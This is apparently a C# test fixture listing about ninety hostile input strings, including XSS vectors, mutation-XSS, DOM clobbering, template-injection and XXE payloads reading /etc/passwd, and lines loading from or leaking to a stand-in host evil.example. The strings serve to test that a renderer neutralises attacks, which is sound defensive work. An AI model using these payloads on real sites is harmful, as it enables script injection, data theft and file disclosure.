namespace Briefings.Browser.Tests.Hostile;

/// <summary>
/// What somebody would type who wants more than words: the families of the OWASP cheat sheets (Cross Site Scripting Prevention,
/// XSS Filter Evasion, DOM clobbering, server-side template injection, XML external entities) in our own words. <c>hit(…)</c> is what
/// the test listens for; <c>evil.example</c> is the outside.
/// </summary>
internal static class AttackStrings
{
    public static IReadOnlyList<string> All { get; } =
    [
        // Elements that run.
        "<script>hit(1)</script>",
        "<SCRIPT SRC=//evil.example/1.js></SCRIPT>",
        "<script/x>hit(2)</script/y>",
        "<scr<script>ipt>hit(3)</scr</script>ipt>",
        "<<script>hit(4);//<</script>",
        "<img src=x onerror=hit(5)>",
        "<img src=\"x:hit(6)\" alt=\"1\" onerror=eval(src)>",
        "<IMG \"\"\"><SCRIPT>hit(7)</SCRIPT>\">",
        "<svg onload=hit(8)>",
        "<svg/onload=hit(9)//",
        "<svg><script>hit&#40;10&#41;</script>",
        "<svg><animate onbegin=hit(11) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:hit(12)\"><text y=9>x</text></a>",
        "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;parent.hit(13)&lt;/script&gt;\"></iframe></foreignObject>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='hit(14)'/></svg>#x\"/>",
        "<math><maction actiontype=statusline xlink:href=javascript:hit(15)>x</maction></math>",
        "<body onload=hit(16)>",
        "<iframe src=\"javascript:hit(17)\"></iframe>",
        "<iframe srcdoc=\"<script>parent.hit(18)</script>\">",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5oaXQoMTkpPC9zY3JpcHQ+\"></object>",
        "<embed src=\"//evil.example/x.swf\">",
        "<video><source onerror=hit(20)></video><audio src=x onerror=hit(21)>",
        "<details open ontoggle=hit(22)>",
        "<input autofocus onfocus=hit(23)><select autofocus onfocus=hit(24)>",
        "<marquee onstart=hit(25)>x</marquee>",
        "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=hit(26)>",
        "<xss id=x tabindex=1 onfocusin=hit(27)>",
        // Elements that load, send or lead elsewhere.
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'unsafe-inline'\">",
        "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/p>",
        "<style>@import '//evil.example/x.css'; * { display: none }</style>",
        "<form action=//evil.example/><button formaction=javascript:hit(28)>x</button>",
        "<table background=\"//evil.example/t.png\"><td background=javascript:hit(29)>",
        "<img src='//evil.example/leak?",
        "<a href=//evil.example/ ping=//evil.example/ping>x</a>",
        // Out of an attribute.
        "\" onmouseover=\"hit(30)\" autofocus onfocus=\"hit(31)\" x=\"",
        "' onmouseover='hit(32)' autofocus onfocus='hit(33)' x='",
        "` onmouseover=`hit(34)` x=`",
        "x onmouseover=hit(35) autofocus onfocus=hit(36)",
        "\"><img src=x onerror=hit(37)>",
        "'><svg/onload=hit(38)>",
        "\" style=\"position:fixed;inset:0;background:red;z-index:9\" x=\"",
        "&quot; onmouseover=&quot;hit(39)&quot; x=&#34;",
        "\\\" onfocus=\\\"hit(40)\\\" autofocus \\",
        // Out of an element whose content is text.
        "</title><script>hit(41)</script>",
        "</textarea></noscript></template></xmp><script>hit(42)</script>",
        "</style><img src=x onerror=hit(43)>",
        "</script><script>hit(44)</script>",
        "--><img src=x onerror=hit(45)><!--",
        "]]><script xmlns=\"http://www.w3.org/1999/xhtml\">hit(46)</script><![CDATA[",
        "<!--><img src=x onerror=hit(47)>--><![if gte IE 4]><script>hit(48)</script><![endif]>",
        "<plaintext>",
        "</p></div></section></article></main></body></html><h1>gone</h1>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
        "<?xml-stylesheet href=\"javascript:hit(49)\"?><?php system('id'); ?><!--#exec cmd=\"id\" -->",
        "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/>",
        "</p></report><report><h1>two</h1>",
        // Out of a string of a script.
        "\";hit(50);//",
        "';hit(51);//",
        "\\u003cscript\\u003ehit(52)\\u003c/script\\u003e",
        "\\x3cscript\\x3ehit(53)\\x3c/script\\x3e",
        "\"}]}</script><script>hit(54)</script><script type=\"application/ld+json\">{\"a\":[{\"b\":\"",
        "${hit(55)}`-hit(56)-`",
        // Addresses.
        "javascript:hit(57)",
        "JaVaScRiPt:hit(58)//http://x",
        "&#106;&#97;vascript&colon;hit(59)",
        "data:text/html,<script>hit(60)</script>",
        "vbscript:msgbox(61)",
        "<a href=\"jav&#x09;ascript:hit(62)\">x</a>",
        "[x](javascript:hit(63)) ![x](x\" onerror=\"hit(64)) <javascript:hit(65)>",
        "[x]: javascript:hit(66) \"\" onclick=hit(67)",
        // Coded twice, or for another reader.
        "&lt;script&gt;hit(68)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=hit(69)&amp;gt;",
        "&#60img src=x onerror=hit(70)&#62 &#x3c;svg onload=hit(71)&#x3e;",
        "%3Cscript%3Ehit(72)%3C/script%3E",
        "+ADw-script+AD4-hit(73)+ADw-/script+AD4-",
        "\uFF1Cscript\uFF1Ehit(74)\uFF1C/script\uFF1E \u02BA onload=hit(75) \u2039img src=x\u203A",
        "<\u0130mg src=x onerror=hit(76)><\u017Fcript>hit(77)</\u017Fcript>",
        // Mutations: markup that a second reading takes for another.
        "<noscript><p title=\"</noscript><img src=x onerror=hit(78)>\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=hit(79)>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=hit(80)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(81)>",
        // Names that hide those of the page.
        "<form id=documentElement><input name=body><img name=currentScript><a id=hit></a><a id=hit name=x>",
        // Templates of ours and of others.
        "{{ include '../content/site.yaml' }}{{ 1237 * 7919 }}{{ \"<script>hit(82)</script>\" }}",
        "{{constructor.constructor('hit(83)')()}} {% include 'x' %} <%= hit(84) %> #{hit(85)} @(hit(86)) ${{<%[%'\"}}%\\",
        "*|MERGE|* {tlp=RED} {#id} {.optional} ::: note [[nowhere]] [^1]",
        // Length without a blank, which breaks columns.
        "A" + new string('W', 600) + "<img/src=x/onerror=hit(87)>" + new string('"', 60),
    ];
}
